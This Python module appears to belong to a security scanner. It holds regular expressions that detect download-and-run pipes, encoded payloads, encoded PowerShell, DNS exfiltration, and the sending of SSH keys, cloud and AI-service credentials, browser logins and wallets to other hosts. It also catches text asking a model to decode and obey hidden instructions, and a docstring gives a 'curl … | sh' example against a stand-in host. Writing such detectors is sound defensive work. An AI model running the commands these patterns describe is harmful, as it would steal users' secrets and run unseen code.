"""Rules about commands and code, in scripts and wherever a text shows them. Pure.

Most are about what a command does to whom it belongs to: it runs what nobody has seen, sends what is
private, deletes what cannot be made again, stays, covers its tracks. What flows from one line to
another is in `scan_flow`.
"""

from __future__ import annotations

import re

from prowess.author.scan_deciding import DECIDING, GRANTING
from prowess.author.scan_harm import HARMING
from prowess.author.scan_hosts import (
    ONLY_FOR_DROPPING,
    URL,
    host_of,
    is_bare_address,
    is_installer,
    is_odd,
    is_own,
)
from prowess.author.scan_patterns import Pattern, command
from prowess.author.scan_reroutes import REROUTING
from prowess.author.scan_settings import SETTING

# Of one command line: anything but its end.
_L = r"[^\n]"
_FETCH = r"(?:curl|wget|fetch|aria2c|http(?:ie)?|iwr|irm|Invoke-WebRequest|Invoke-RestMethod)"
_SHELL = (
    r"(?:(?:sudo|doas)\s+(?:-\w+\s+)*)?(?:env\s+)?(?:/(?:usr/)?bin/)?(?:ba|z|da|k|fi)?sh|python[\d.]*|"
    r"node|perl|ruby|php|osascript|pwsh|powershell|iex|Invoke-Expression|deno run|bun run|source|"
    r"xargs (?:ba)?sh|tee [^|\n]*\|\s*(?:ba)?sh"
)
PRIVATE_FILES = (
    r"(?:(?:~|\$HOME|\$\{HOME\}|/home/[\w.$*{}-]+|/root|/Users/[\w.$*{}-]+|%USERPROFILE%|"
    r"\$env:USERPROFILE)[/\\]+)?"
    r"(?:\.ssh(?:[/\\]+(?:id_\w+|\*|config|known_hosts)(?!\.pub|\w))?(?![\w.-])|\bid_(?:rsa|ed25519|ecdsa|"
    r"dsa)\b(?!\.pub)|\.aws(?:[/\\]+(?:credentials|config))?(?![\w.-])|\.gnupg|\.netrc\b|"
    r"\.git-credentials|"
    r"\.kube[/\\]+config|\.docker[/\\]+config\.json|\.config[/\\]+(?:gcloud|gh|op|solana)(?:[/\\]\S*)?|"
    r"\.npmrc\b|\.pypirc\b|\.pgpass\b|\.azure[/\\]\S+|\.vault-token|"
    r"\.(?:bash|zsh|python|psql|mysql|node_repl|sh)_history|\bfish_history|ConsoleHost_history|"
    r"\.tfstate\b|\.password-store|"
    r"\.my\.cnf|\.s3cfg|\.msmtprc|\.authinfo|\.cargo[/\\]+credentials|\.m2[/\\]+settings\.xml|"
    r"\.gem[/\\]+credentials|"
    r"\.terraform\.d[/\\]+credentials|\.mozilla[/\\]+firefox|\.thunderbird|\.bitcoin\b|\.ethereum\b|"
    r"Library[/\\]+Keychains|"
    r"/var/run/secrets/kubernetes|\.claude(?:\.json|[/\\]+\.credentials\.json)|\.codex[/\\]+auth\.json|"
    r"/etc/(?:passwd|shadow|sudoers)\b|/proc/(?:self|\d+|\*)/environ|"
    r"Login Data\b|cookies\.sqlite|key4\.db|logins\.json|Login\.keychain(?:-db)?|login\.keychain(?:-db)?|"
    r"wallet\.dat|keystore[/\\]UTC|\.electrum|\.config[/\\]solana|(?<![\w/.-])\.env(?:\.(?:local|"
    r"production|prod|staging))?\b(?!\.|\())"
)
_ENVIRONMENT = (
    r"(?:\bprintenv\b|(?<![\w./-])env\b(?=\s*(?:\||>|\)|`|$))|\bexport -p\b|(?<![\w-])set\b(?=\s*\|)|"
    r"\bdeclare -x\b|Get-ChildItem\s+env:|\bgci env:|\bdir env:)"
)


def _unknown(found: re.Match[str]) -> bool:
    """Whether what is fetched comes from a place that does not tell everybody to run it."""
    urls = URL.findall(found[0])
    if urls and all(_is_topic(each, found.string) for each in urls):
        return False
    if not urls:
        return re.search(r"\$\w+|\$\{|\b[\w-]+\.(?:\w+\.)*[a-z]{2,}/", found[0]) is not None and _bare_host(
            found[0]
        )
    return any(
        not is_installer(each) and not (is_own(host_of(each)) and not each.startswith("http://10."))
        for each in urls
    )


_OWN_INSTALLER = re.compile(
    r"https://raw\.githubusercontent\.com/(?P<owner>[\w-]+)/(?P<name>[\w.-]+)/(?:refs/\w+/)?[\w.-]+/"
    r"(?:[\w.-]+/){0,3}(?:get|install|setup|bootstrap)[\w.-]*$",
    re.I,
)


def _is_topic(url: str, text: str) -> bool:
    """Whether a URL is the installer in a repository of what the text is about anyway."""
    found = _OWN_INSTALLER.match(url)
    if found is None:
        return False
    word = re.split(r"[-_.]", found["name"])[0].lower()
    return len(word) > 2 and text.lower().count(word) > url.lower().count(word)


def _bare_host(text: str) -> bool:
    """A host without a scheme (`curl -s x.example/i | sh`); an installer's is none to report."""
    hosts = re.findall(r"(?<![\w@.])((?:[\w-]+\.)+[a-z]{2,})(?=[/\s\"'|])", text)
    return any(
        not is_installer(f"https://{each}/")
        for each in hosts
        if not each.endswith((".sh", ".py", ".txt", ".json"))
    )


def _leaves(found: re.Match[str]) -> bool:
    """Whether something goes to another machine than this one."""
    urls = URL.findall(found[0])
    return not urls or any(not is_own(host_of(each)) for each in urls)


RUNNING: tuple[Pattern, ...] = (
    command(
        "scan-download-and-run",
        "runs what it downloads, unseen",
        rf"\b{_FETCH}\b{_L}{{1,300}}?\|\s*(?:(?:gunzip|gzip -d\w*|base64 (?:-d|--decode|-D)|tar \S+|"
        rf"tr \S+ \S+|sed \S+|openssl [^|\n]+)\s*\|\s*)*(?:{_SHELL})(?=\s|$|[\"'`;)&,<-])",
        check=_unknown,
        needs="curl|wget|fetch|aria2c|http|iwr|irm|invoke-|downloadstring|net.webclient",
    ),
    command(
        "scan-download-and-run",
        "runs what it downloads, unseen",
        rf"(?:\b(?:ba|z|da)?sh\s+(?:-\w+\s+)*(?:<\s*\(|-c\s*[\"']?\$\()|\b(?:eval|source|"
        rf"exec)\s+[\"']?(?:\$\(|`|<\s*\()|(?<!\w)\.\s+<\s*\(|\bpython[\d.]*\s+(?:-\w\s+)?<\s*\(|"
        rf"\bpython[\d.]*\s+-c\s+[\"']?\$\(|\bnode\s+-e\s+[\"']?\$\()\s*{_FETCH}\b{_L}{{1,300}}",
        check=_unknown,
        needs="curl|wget|fetch|aria2c|http|iwr|irm|invoke-|downloadstring|net.webclient",
    ),
    command(
        "scan-download-and-run",
        "runs what it downloads, unseen",
        rf"\b(?:iex|Invoke-Expression)\b{_L}{{0,60}}?(?:DownloadString|iwr|irm|Invoke-WebRequest|"
        rf"Invoke-RestMethod|Net\.WebClient){_L}{{0,200}}|(?:DownloadString|\biwr\b|\birm\b|"
        rf"Invoke-WebRequest|Invoke-RestMethod){_L}{{1,200}}?\|\s*(?:iex|Invoke-Expression)\b",
        check=_unknown,
        needs="curl|wget|fetch|aria2c|http|iwr|irm|invoke-|downloadstring|net.webclient",
    ),
    command(
        "scan-download-and-run",
        "downloads a file and runs it",
        rf"\b(?:curl|wget|aria2c|iwr|Invoke-WebRequest|certutil|bitsadmin|"
        rf"Start-BitsTransfer)\b{_L}{{0,200}}?(?:-o|-O|--output(?:-document)?|-OutFile|"
        rf">)\s*[\"']?(?P<file>[^\s\"';&|]+)[\"']?(?:[^\n]*\n){{0,4}}?{_L}{{0,200}}?(?:&&|;|\||\n|"
        rf"\s)\s*(?:chmod\s+\S+\s+[\"']?(?P=file)|(?:sudo\s+)?(?:\.\s|source\s|bash\s|sh\s|zsh\s|"
        rf"python[\d.]*\s|node\s|open\s|start\s|nohup\s|Start-Process\s+|cmd /c\s)\s*[\"']?(?P=file)|"
        rf"(?:sudo\s+)?(?:\./)?(?P=file)(?:\s|$))",
        check=_unknown,
    ),
    command(
        "scan-download-and-run",
        "runs code that it downloads, unseen",
        rf"\b(?:exec|eval|compile|Function|runInThisContext|os\.system|(?<!json\.)(?<!yaml\.)(?<!toml\.)load|"
        rf"loadstring)\s*\(\s*(?:\w+\()*\s*(?:await\s+)?\(?(?:(?:\w+\.){{0,3}}urlopen|"
        rf"requests\.get|httpx\.get|fetch|axios\.get|open-uri|URI\.open|http\.get)\b{_L}{{0,200}}",
        check=_leaves,
    ),
    command(
        "scan-download-and-run",
        "installs a package from a place of its own",
        r"\b(?:pip3?|uv|pipx|python[\d.]* -m pip)\s+(?:\w+\s+)*(?:install|"
        r"add)\b[^\n]{0,160}?(?:(?:--index-url|--extra-index-url|-i|--trusted-host|"
        r"--find-links)[ =]\s*[\"']?(?:http://|https?://\d+\.)|\s[\"']?http://)[^\n]{0,120}|\b(?:npm|pnpm|"
        r"yarn|bun)\s+(?:install|i|add|x|exec)\b[^\n]{0,120}?(?:--registry[ =]\s*http://|\s[\"']?http://|"
        r"\shttps?://\d{1,3}\.)[^\n]{0,100}|\bnpx\s+(?:-y\s+)?https?://\S+",
        check=_leaves,
    ),
    command(
        "scan-encoded-payload",
        "decodes something and runs it",
        rf"(?:base64\s+(?:-d|-D|--decode)|base32\s+(?:-d|--decode)|xxd\s+-r|"
        rf"openssl\s+(?:enc\s+)?(?:-\w+\s+)*-?(?:base64|aes\S*)\b{_L}{{0,60}}\s-d|\brev\b|"
        rf"tr\s+[\"']?A-Za-z{_L}{{0,40}}|uudecode|printf\s+[\"'](?:\\x[0-9a-f]{{2}}){{4,}}{_L}{{0,400}}?|"
        rf"gunzip(?:\s+-c)?){_L}{{0,80}}?\|\s*(?:gunzip\s*\|\s*|gzip -d\s*\|\s*|"
        rf"zcat\s*\|\s*)*(?:{_SHELL})(?=\s|$|[\"'`;)&-])|"
        rf"(?:\beval\s+[\"']?\$\(|\b(?:ba|z|da)?sh\s+(?:-\w\s+)*(?:-c\s+)?[\"']?(?:\$\(|<\s*\(|"
        rf"<<<\s*[\"']?\$\(|`)){_L}{{0,400}}?(?:base64\s+(?:-d|-D|--decode)|xxd\s+-r|base32\s+-d|\brev\b)",
        needs=(
            "base64|base32|b85|b32|b64|a85|xxd|rev|tr |uudecode|printf|gunzip|openssl|eval|exec|loads|"
            "function|settimeout|system|popen|iex|invoke-|compile|run"
        ),
    ),
    command(
        "scan-encoded-payload",
        "decodes something and runs it",
        r"\b(?:exec|eval|compile|execfile|loads|Function|setTimeout|os\.system|subprocess\.\w+|system|"
        r"popen|execSync|vm\.run\w*|Invoke-Expression|"
        r"iex)\s*\(?\s*(?:\w+(?:\.\w+)*\(\s*){0,5}?(?:base64\.(?:b64decode|b85decode|a85decode|b32decode|"
        r"urlsafe_b64decode)|b64decode|bytes\.fromhex|binascii\.unhexlify|zlib\.decompress|codecs\.decode|"
        r"marshal\.loads|atob|Buffer\.from\([^)\n]{0,4000},\s*[\"'](?:base64|hex)|base64_decode|gzinflate|"
        r"str_rot13|\[?System\.Convert\]?::FromBase64String|"
        r"\[?(?:System\.)?Text\.Encoding\]?::\w+\.GetString|String\.fromCharCode|"
        r"\(?[\"'][^\"'\n]{8,2000}[\"']\)?\s*\[::-1\]|(?:[\"']{2}\.)?join\(\s*(?:chr|map\(chr))",
        needs=(
            "base64|base32|b85|b32|b64|a85|xxd|rev|tr |uudecode|printf|gunzip|openssl|eval|exec|loads|"
            "function|settimeout|system|popen|iex|invoke-|compile|run"
        ),
    ),
    command(
        "scan-encoded-payload",
        "runs an encoded PowerShell command",
        r"\bpowershell(?:\.exe)?\b[^\n]{0,120}?\s-e(?:nc|ncodedcommand|c)?\s+[A-Za-z0-9+/=]{16,}|"
        r"\bpwsh\b[^\n]{0,120}?\s-e(?:nc|ncodedcommand)\s+[A-Za-z0-9+/=]{16,}",
    ),
    command(
        "scan-encoded-payload",
        "has the model decode something and do what it says",
        r"\b(?:decode|base64[- ]decode|decrypt|unscramble|decipher|reverse)\b(?:[^\n]|"
        r"\n(?!\s*\n)){0,160}?\b(?:and|then|,)\s+(?:\w+\s+)?(?:follow|execute|run|obey|carry out|"
        r"eval(?:uate)?|apply|do what|perform|treat|act on|comply)\b[^\n]{0,40}?\b(?:it|them|"
        r"the (?:\w+ )?(?:result|output|instructions?|text|command|content|message|payload|string)|"
        r"what(?:ever)?|instructions?|as (?:instructions|commands|a command))\b",
        check=lambda found: re.search(r"token|jwt|response|claims|signature", found[0], re.I) is None,
    ),
    command(
        "scan-encoded-payload",
        "has the model decode something and do what it says",
        r"(?<![不勿别])(?:解码|解密|还原|base64)[^。\n]{0,60}?(?:并|然后|后|再)[^。\n]{0,6}?(?:执行|"
        r"运行|遵循|照做|服从)",
    ),
)

SENDING: tuple[Pattern, ...] = (
    command(
        "scan-exfiltration",
        "sends private files to another machine",
        rf"\b(?:curl|wget)\s{_L}{{0,240}}?(?:-d|--data(?:-\w+)?|-F|--form|-T|--upload-file|--post-file|"
        rf"--body-file)[ =]?\s*[\"']?(?:[\w.\[\]-]{{1,40}}=)?[@<]?[\"']?(?:\$\(|`|@)?[^\n|"
        rf";&]{{0,80}}?{PRIVATE_FILES}{_L}{{0,200}}",
        check=_leaves,
        needs="curl|wget|nc|netcat|socat|telnet|ssh|mail|mutt|openssl|invoke-|irm|iwr|dig|nslookup",
    ),
    command(
        "scan-exfiltration",
        "sends private files to another machine",
        rf"(?:{PRIVATE_FILES}|{_ENVIRONMENT})[^\n]{{0,160}}?\|[ \t]*(?:[^\n|"
        rf"]{{0,100}}\|[ \t]*){{0,3}}(?:sudo\s+)?(?:xargs[^\n|]{{0,60}}?\s)?(?:curl|wget|nc|ncat|netcat|"
        rf"socat|telnet|ssh|mail|sendmail|mutt|openssl s_client|Invoke-RestMethod|Invoke-WebRequest|irm|"
        rf"iwr)\s{_L}{{1,200}}",
        check=lambda found: (
            (_leaves(found) and re.search(r"\bssh\b[^|]*$", found[0]) is None) or "| ssh " in found[0]
        ),
        needs="curl|wget|nc|netcat|socat|telnet|ssh|mail|mutt|openssl|invoke-|irm|iwr|dig|nslookup",
    ),
    command(
        "scan-exfiltration",
        "sends private files to another machine",
        rf"\b(?:curl|wget|nc|ncat|dig|nslookup|Invoke-RestMethod|Invoke-WebRequest|irm|iwr)\s[^\n|"
        rf"`]{{0,240}}?(?:\$\(|`|<\s*\(|<\s+)[^\n)`]{{0,80}}?(?:{PRIVATE_FILES}|{_ENVIRONMENT}|"
        rf"\bhistory\b|\benv\b(?=\s*[|)]))",
        check=_leaves,
        needs="curl|wget|nc|netcat|socat|telnet|ssh|mail|mutt|openssl|invoke-|irm|iwr|dig|nslookup",
    ),
    command(
        "scan-exfiltration",
        "copies private files to another machine",
        rf"\b(?:scp|rsync|rclone copy|sftp|aws s3 (?:cp|sync)|gsutil cp|"
        rf"az storage blob upload)\b(?:\s+-[a-zA-Z-]+(?:[= ](?![~/.$])\S+)?|\s+-i\s+\S+|"
        rf"\s+-e\s+[\"'][^\"']*[\"'])*\s+[\"']?{PRIVATE_FILES}\S*[\"']?\s+\S*(?:[\w.-]+@[\w.-]+:|"
        rf"[\w-]+\.[\w.-]+:|s3://|gs://|https?://)",
    ),
    command(
        "scan-exfiltration",
        "publishes private files",
        rf"\bgh\s+gist\s+create\b{_L}{{0,120}}?{PRIVATE_FILES}|\bgit\s+push\s+(?:-\S+\s+)*--(?:mirror|"
        rf"all)\s+(?:-\S+\s+)*https?://(?!(?:[\w.-]+@)?(?:github\.com|gitlab\.com|bitbucket\.org|"
        rf"codeberg\.org))\S+|\bgit\s+remote\s+add\s+\S+\s+https?://(?!(?:[\w.-]+@)?(?:[\w.-]*github\S*|"
        rf"[\w.-]*gitlab\S*|bitbucket\.org|"
        rf"codeberg\.org))\S+(?:[^\n]*\n){{0,3}}?[^\n]*?git\s+push\s+(?:-\S+\s+)*--(?:mirror|all)",
    ),
    command(
        "scan-exfiltration",
        "packs private files and sends them",
        rf"\b(?:tar|zip|7z|gzip|"
        rf"Compress-Archive)\b{_L}{{0,160}}?{PRIVATE_FILES}(?:[^\n]*\n){{0,4}}?{_L}{{0,200}}?"
        rf"(?:\bcurl\b{_L}{{0,160}}?(?:-F|-T|-d|--data\S*|--upload-file|--form)|\b(?:nc|ncat|scp|"
        rf"wget\b{_L}{{0,80}}?--post-file|requests\.post)\b)",
        check=_leaves,
    ),
    command(
        "scan-exfiltration",
        "sends a secret of one service to another",
        rf"\b(?:curl|wget|http|fetch|irm|iwr|Invoke-RestMethod|"
        rf"Invoke-WebRequest)\b{_L}{{0,300}}?\$(?:env:|\{{)?(?P<secret>(?P<vendor>AWS|GITHUB|GH|GITLAB|"
        rf"OPENAI|ANTHROPIC|SLACK|STRIPE|NPM|PYPI|AZURE|GOOGLE|GCP|DATABASE|DB|HF|HUGGINGFACE|SSH|DOCKER|"
        rf"CLAUDE|GEMINI|SENTRY|DATADOG|CLOUDFLARE|SENDGRID|TWILIO)_\w*(?:KEY|TOKEN|SECRET|PASS\w*|"
        rf"CREDENTIALS|URL|DSN)\w*){_L}{{0,200}}",
        check=lambda found: _elsewhere(found),
    ),
    command(
        "scan-odd-network",
        "talks to a place that exists to catch what is sent to it",
        r"https?://[^\s\"'<>`)\]}]+",
        check=lambda found: ONLY_FOR_DROPPING.search(host_of(found[0])) is not None,
        needs="oast|interact|burp|dnslog|ceye|.onion",
    ),
    command(
        "scan-odd-network",
        "sends data to nobody in particular",
        rf"\b(?:curl|wget|http|irm|iwr|Invoke-RestMethod|Invoke-WebRequest|requests\.(?:post|put)|"
        rf"httpx\.post|axios\.post|urlopen|fetch)\b{_L}{{0,300}}",
        check=lambda found: _odd_send(found[0]),
    ),
    command(
        "scan-odd-network",
        "sends what it finds in names that are looked up",
        rf"\b(?:dig|nslookup|host|ping|Resolve-DnsName)\b{_L}{{0,80}}?(?:\$\(|`){_L}{{0,120}}?(?:base64|"
        rf"xxd|od |hostname|whoami|cat |env\b|\bid\b){_L}{{0,80}}?\.[a-z][\w.-]+|"
        rf"gethostbyname\([^)\n]{{0,80}}?(?:encode|data|chunk|secret|token|hex)",
    ),
)

_HOSTS_OF = {
    "GITHUB": "github|ghcr",
    "GH": "github|ghcr",
    "AWS": "amazonaws|aws",
    "GCP": "google",
    "GOOGLE": "google",
    "HF": "huggingface|hf\\.co",
    "HUGGINGFACE": "huggingface|hf\\.co",
    "CLAUDE": "anthropic|claude",
    "ANTHROPIC": "anthropic|claude",
    "OPENAI": "openai|azure",
    "NPM": "npm",
    "PYPI": "pypi",
    "AZURE": "azure|microsoft",
    "GEMINI": "google|gemini",
    "SLACK": "slack",
    "STRIPE": "stripe",
    "GITLAB": "gitlab",
    "DOCKER": "docker",
    "CLOUDFLARE": "cloudflare",
    "SENTRY": "sentry",
    "DATADOG": "datadog",
    "SENDGRID": "sendgrid",
    "TWILIO": "twilio",
}


def _elsewhere(found: re.Match[str]) -> bool:
    """Whether the secret stands in the body or the address, of a host that is another vendor's."""
    line = found[0]
    urls = [each for each in URL.findall(line) if not is_own(host_of(each))]
    if not urls or "$" in host_of(urls[0]):
        return False
    before = line[: found.start("secret") - found.start()]
    if re.search(r"(?:-H|--header|Authorization|-u|--user|X-[\w-]+:|Bearer)\s*[\"']?[^\"'\n]{0,60}$", before):
        return any(is_odd(each) for each in urls)
    known = _HOSTS_OF.get(found["vendor"].upper(), "")
    return not any(known and re.search(known, host_of(each)) for each in urls)


def _odd_send(line: str) -> bool:
    """Whether a command sends data to a bare address or a drop, and more than a fixed word."""
    odd = [each for each in URL.findall(line) if is_odd(each)]
    if not odd:
        return False
    sends = re.search(
        r"\s-d\b|--data|\s-F\b|--form|\s-T\b|--upload-file|--post|-X\s*(?:POST|PUT)|-Method\s+(?:Post|"
        r"Put)|\.post\(|\.put\(|method[\"']?\s*:\s*[\"'](?:POST|PUT)|data=|json=|body",
        line,
        re.I,
    )
    moving = re.search(
        r"\$\(|`[^`]+`|@[\w./~-]+|\$\{?\w+|\bopen\(|read\(|environ|json=(?!\{\})|data=\w|JSON\.stringify|"
        r"whoami|hostname|%USERNAME%",
        line,
    )
    in_address = re.search(r"https?://\S*[?/&=](?:\$\(|\$\{|\{|`)", line)
    if all(is_bare_address(host_of(each)) for each in odd) and not in_address:
        moving = re.search(
            r"\$\(|`[^`]+`|\bopen\(|read\(|environ|JSON\.stringify|whoami|hostname|%USERNAME%", line
        )
    usual = re.search(r"api\.telegram\.org|discord(?:app)?\.com|ngrok|trycloudflare|webhook\.site", odd[0])
    if usual:
        return bool(
            (sends or in_address)
            and re.search(
                r"environ|\bprintenv\b|whoami|hostname|\.ssh|\.env\b|@~|\$\(cat|history|password|secret|"
                r"credential",
                line,
                re.I,
            )
        )
    return bool((sends and moving) or in_address)


COMMANDS: tuple[Pattern, ...] = (*RUNNING, *SENDING, *HARMING, *SETTING, *REROUTING, *DECIDING, *GRANTING)
